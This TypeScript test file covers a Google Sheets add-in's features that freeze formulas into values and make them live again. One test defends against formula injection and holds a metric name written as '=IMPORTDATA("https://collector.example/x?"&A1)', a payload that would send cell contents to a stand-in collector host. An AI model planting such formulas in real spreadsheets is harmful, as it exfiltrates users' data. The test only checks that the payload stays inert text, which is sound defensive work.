// Freeze and Make live on the built add-in: the selected add-in formulas (and their spilled results)
// become values with a note, recalculation stops asking the API, and Make live puts the formulas back
// unless a person typed into the frozen range since.

import { DEMO_IDS } from '../../emulator/demo-data';
import type { EmulatorState } from '../../emulator/records';
import type { GasRuntime } from '../../gas-runtime';
import type { FreezeReport, ThawReport } from '../../src/shared/rpc';
import { ok, useStackWithState, type Stack } from '../support/stack';

const M = DEMO_IDS.metrics;
let stack: Stack;
let state: EmulatorState;
useStackWithState((started, demo) => ((stack = started), (state = demo)));

function valueOn(metricId: string, date: string): number {
  const point = state.data_points.find((p) => p.metric_id === metricId && p.date === date);
  if (!point || point.value === null) throw new Error(`the emulator holds no value of ${metricId} on ${date}`);
  return Number(point.value);
}

const dataPointRequests = (requests: Array<{ path: string }>) => requests.filter((r) => r.path === '/data_points');

interface Model {
  rt: GasRuntime;
  /** The formulas Sheets would recalculate because the script wrote them, in order. */
  written: Array<{ formula: string; cell: string; sheet: string }>;
  single: string;
  table: string;
  metric: string;
  dates: string[];
}

/** A sheet "Model" with a one-cell formula at B2, a table formula at D5 spilling down two columns, and =SUM at A1. */
async function model(): Promise<Model> {
  // Another test may have restated a figure: what the cells must show is what the emulator holds now.
  state = await stack.emulator.control.state();
  const written: Model['written'] = [];
  const rt = stack.runtime({
    formulaEvaluator: (formula, at) => {
      written.push({ formula, cell: at.a1, sheet: at.sheetName });
      return 'Loading…';
    },
  });
  const metric = M.headcount;
  const dates = state.data_points
    .filter((p) => p.metric_id === metric && p.value !== null)
    .map((p) => p.date)
    .sort()
    .slice(-4);
  const single = `=METRIC_VALUE("${metric}", "${dates[3]}")`;
  const table = `=METRIC_VALUES("${metric}", "${dates[0]}", "${dates[3]}")`;
  const sheet = rt.spreadsheet.insertSheet('Model');
  sheet.getRange('A1').setFormula('=SUM(1, 2)');
  expect(rt.evaluateFormula(single, { cell: 'B2', sheet: 'Model' })).toMatchObject({ ok: true });
  expect(rt.evaluateFormula(table, { cell: 'D5', sheet: 'Model' })).toMatchObject({ ok: true });
  // The table spilled four rows of date and value: D5:E8.
  expect(sheet.getRange('E8').getValue()).toBe(valueOn(metric, dates[3]!));
  expect(sheet.getRange('D9').getValue()).toBe('');
  written.length = 0;
  await stack.takeRequests();
  return { rt, written, single, table, metric, dates };
}

function select(rt: GasRuntime, a1: string): void {
  const sheet = rt.spreadsheet.getSheetByName('Model')!;
  rt.spreadsheet.setActiveRange(sheet.getRange(a1));
}

describe('Freeze selection', () => {
  it('turns the selected add-in formulas and their whole spilled results into the values they showed, with a note each, and recalculation asks nothing', async () => {
    const { rt, written, single, table, metric, dates } = await model();
    const sheet = rt.spreadsheet.getSheetByName('Model')!;
    sheet.getRange('B2').setNote('checked by Ana');
    const shownSingle = sheet.getRange('B2').getValue();
    const shownTable = sheet.getRange('D5:E8').getValues();

    // The selection covers the table's first row only: its spill below is frozen with it.
    select(rt, 'A1:E5');
    const report = ok<FreezeReport>(rt.callServer('freezeSelection'));
    expect(report.frozen).toEqual([
      { range: 'B2', formula: single },
      { range: 'D5:E8', formula: table },
    ]);
    expect(report.left).toEqual([]);
    expect(report.message).toBe('Froze 2 formulas into values: B2 and D5:E8.');

    expect(sheet.getRange('A1:E9').getFormulas().flat().filter(Boolean)).toEqual(['=SUM(1, 2)']);
    expect(sheet.getRange('B2').getValue()).toEqual(shownSingle);
    expect(sheet.getRange('D5:E8').getValues()).toEqual(shownTable);
    expect(sheet.getRange('D5').getValue()).toBeInstanceOf(Date);

    const host = new URL(stack.emulator.url).host;
    for (const [cell, formula] of [
      ['B2', single],
      ['D5', table],
    ] as const) {
      const note = sheet.getRange(cell).getNote();
      expect(note).toContain(`Formula: ${formula}`);
      expect(note).toContain(`API host: ${host}`);
      expect(note).toMatch(/as of \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z/);
    }
    // The token is nowhere in the grid's notes or the document's properties.
    const everything = JSON.stringify([sheet.getRange('A1:Z50').getNotes(), rt.properties.document().getProperties()]);
    expect(everything).not.toContain(stack.emulator.token);
    // Writing values recalculates no add-in formula, and nothing was fetched.
    expect(written.filter((w) => w.formula.includes('METRIC'))).toEqual([]);
    expect(dataPointRequests(await stack.takeRequests())).toEqual([]);

    // A restated figure on the platform: Refresh data (which makes Sheets run every add-in formula) finds none to run.
    await stack.emulator.control.fixtures({ data_points: [{ metric_id: metric, date: dates[3]!, value: String(valueOn(metric, dates[3]!) + 500) }] });
    rt.run('onOpen', [{ authMode: 'FULL' }]);
    rt.run(rt.ui.menuFunction('Refresh data')!);
    expect(written.filter((w) => w.formula.includes('METRIC'))).toEqual([]);
    expect(dataPointRequests(await stack.takeRequests())).toEqual([]);
    expect(sheet.getRange('E8').getValue()).toBe(valueOn(metric, dates[3]!));
  });

  it('keeps a metric name that reads as a formula the text it showed: no live IMPORTDATA after Freeze', async () => {
    const name = '=IMPORTDATA("https://collector.example/x?"&A1)';
    await stack.emulator.control.fixtures({ metrics: [{ company_id: DEMO_IDS.fund, name, frequency: 'monthly', unit: 'USD' }] });
    const written: string[] = [];
    const rt = stack.runtime({ formulaEvaluator: (formula) => (written.push(formula), 'Loading…') });
    const sheet = rt.spreadsheet.insertSheet('Model');
    const formula = `=METRICS("${DEMO_IDS.fund}")`;
    expect(rt.evaluateFormula(formula, { cell: 'A1', sheet: 'Model' })).toMatchObject({ ok: true });
    const shown = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getValues();
    const at = shown.findIndex((row) => row.includes(name));
    // METRICS() shows it as text: a custom function's result is never a formula.
    expect(at).toBeGreaterThan(0);
    const column = shown[at]!.indexOf(name) + 1;
    written.length = 0;

    select(rt, 'A1');
    expect(ok<FreezeReport>(rt.callServer('freezeSelection')).frozen).toEqual([{ range: expect.stringMatching(/^A1:/), formula }]);
    const cell = sheet.getRange(at + 1, column);
    expect(cell.getFormula()).toBe('');
    expect(cell.getValue()).toBe(name);
    // Every other frozen cell is what it showed, too, and no formula was written anywhere.
    expect(sheet.getRange(1, 1, shown.length, shown[0]!.length).getValues()).toEqual(shown);
    expect(
      sheet
        .getRange(1, 1, shown.length, shown[0]!.length)
        .getFormulas()
        .flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
    expect(written).toEqual([]);
  });

  it('leaves a formula showing an error live, and says so', async () => {
    const { rt } = await model();
    const sheet = rt.spreadsheet.getSheetByName('Model')!;
    const broken = `=METRIC_VALUE("${'0'.repeat(8)}-0000-4000-8000-${'0'.repeat(12)}", "2024-01")`;
    rt.evaluateFormula(broken, { cell: 'B3', sheet: 'Model' });
    expect(String(sheet.getRange('B3').getValue())).toMatch(/^#/);
    select(rt, 'B3');
    const report = ok<FreezeReport>(rt.callServer('freezeSelection'));
    expect(report.frozen).toEqual([]);
    expect(report.left).toEqual([{ range: 'B3', reason: `it shows ${sheet.getRange('B3').getValue()}` }]);
    expect(sheet.getRange('B3').getFormula()).toBe(broken);
    expect(
      rt.properties
        .document()
        .getKeys()
        .filter((key) => key.startsWith('FROZEN_RANGE:')),
    ).toEqual([]);
  });
});

describe('Make selection live', () => {
  it("puts the formulas back from the record, which recalculate to the platform's current values, and the prior note returns", async () => {
    const { rt, written, single, table, metric, dates } = await model();
    const sheet = rt.spreadsheet.getSheetByName('Model')!;
    sheet.getRange('B2').setNote('checked by Ana');
    select(rt, 'A1:E5');
    ok<FreezeReport>(rt.callServer('freezeSelection'));
    const restated = valueOn(metric, dates[3]!) + 700;
    await stack.emulator.control.fixtures({ data_points: [{ metric_id: metric, date: dates[3]!, value: String(restated) }] });

    // A day later: the series the formulas fetched have left the cache (six hours at most).
    rt.clock.advance(24 * 3600_000);
    // Any cell of a frozen range selects it: E7 is inside the table's spill.
    select(rt, 'B2:E7');
    rt.run('onOpen', [{ authMode: 'FULL' }]);
    rt.run(rt.ui.menuFunction('Make selection live')!);
    expect(rt.ui.toasts.at(-1)!.message).toBe('Made 2 ranges live again: B2 and D5:E8.');
    expect(sheet.getRange('B2').getFormula()).toBe(single);
    expect(sheet.getRange('D5').getFormula()).toBe(table);
    expect(sheet.getRange('B2').getNote()).toBe('checked by Ana');
    expect(sheet.getRange('D5').getNote()).toBe('');
    expect(
      rt.properties
        .document()
        .getKeys()
        .filter((key) => key.startsWith('FROZEN_RANGE:')),
    ).toEqual([]);

    // Sheets recalculates the formulas written back; they fetch again and show the restated value.
    expect(written.map((w) => `${w.sheet}!${w.cell} ${w.formula}`).sort()).toEqual([`Model!B2 ${single}`, `Model!D5 ${table}`]);
    // The frozen values went with the formulas' return: the spill is empty until Sheets recalculates.
    expect(sheet.getRange('D6:E8').getValues().flat()).toEqual(['', '', '', '', '', '']);
    await stack.takeRequests();
    for (const { formula, cell, sheet: name } of written) expect(rt.evaluateFormula(formula, { cell, sheet: name })).toMatchObject({ ok: true });
    expect(sheet.getRange('B2').getValue()).toBe(restated);
    expect(sheet.getRange('E8').getValue()).toBe(restated);
    expect(dataPointRequests(await stack.takeRequests()).length).toBeGreaterThan(0);
  });

  it('refuses a range a person typed into, naming the cells, and overwrites nothing; once they are cleared it goes live', async () => {
    const { rt, written, table } = await model();
    const sheet = rt.spreadsheet.getSheetByName('Model')!;
    select(rt, 'D5');
    ok<FreezeReport>(rt.callServer('freezeSelection'));
    sheet.getRange('E6').setValue(42);
    sheet.getRange('D8').setValue('restated by hand');

    select(rt, 'D5:E8');
    const report = ok<ThawReport>(rt.callServer('thawSelection'));
    expect(report.thawed).toEqual([]);
    expect(report.refused).toEqual([{ range: 'D5:E8', cells: ['E6', 'D8'] }]);
    expect(report.message).toBe(
      'Left D5:E8 frozen: E6 and D8 changed after freezing, and the formula would overwrite them. Clear those cells (or put back the frozen values), then try again.',
    );
    expect(sheet.getRange('D5').getFormula()).toBe('');
    expect(sheet.getRange('E6').getValue()).toBe(42);
    expect(sheet.getRange('D8').getValue()).toBe('restated by hand');
    expect(written).toEqual([]);

    sheet.getRange('E6').clearContent();
    sheet.getRange('D8').clearContent();
    const again = ok<ThawReport>(rt.callServer('thawSelection'));
    expect(again.thawed).toEqual(['D5:E8']);
    expect(sheet.getRange('D5').getFormula()).toBe(table);
  });

  it('says so when the selection touches no frozen range', async () => {
    const { rt } = await model();
    select(rt, 'A1');
    expect(ok<ThawReport>(rt.callServer('thawSelection'))).toEqual({
      thawed: [],
      refused: [],
      message: expect.stringMatching(/^The selection holds no range frozen by /),
    });
  });
});
